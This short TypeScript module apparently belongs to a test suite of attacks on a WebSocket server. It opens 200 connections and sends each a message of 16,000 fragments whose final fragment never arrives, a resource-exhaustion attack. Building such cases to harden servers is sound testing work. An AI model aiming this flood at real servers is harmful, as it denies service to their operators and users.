import type { Attack } from '../attack.ts';
import { frame, OPCODES, upgrade } from '../bytes.ts';

const FRAGMENTS = 16_000;
const first = frame(OPCODES.text, 'x', { last: false });
const more = frame(OPCODES.more, 'x', { last: false });
const bytes = Buffer.concat([Buffer.from(upgrade()), first, ...Array<Buffer>(FRAGMENTS).fill(more)]);

/** Messages of 16,000 fragments whose last one never comes, on as many connections as one address may have. */
export const fragments: Attack = (attacker) => {
  attacker.hold(200, (socket) => {
    socket.resume().write(bytes);
  });
};
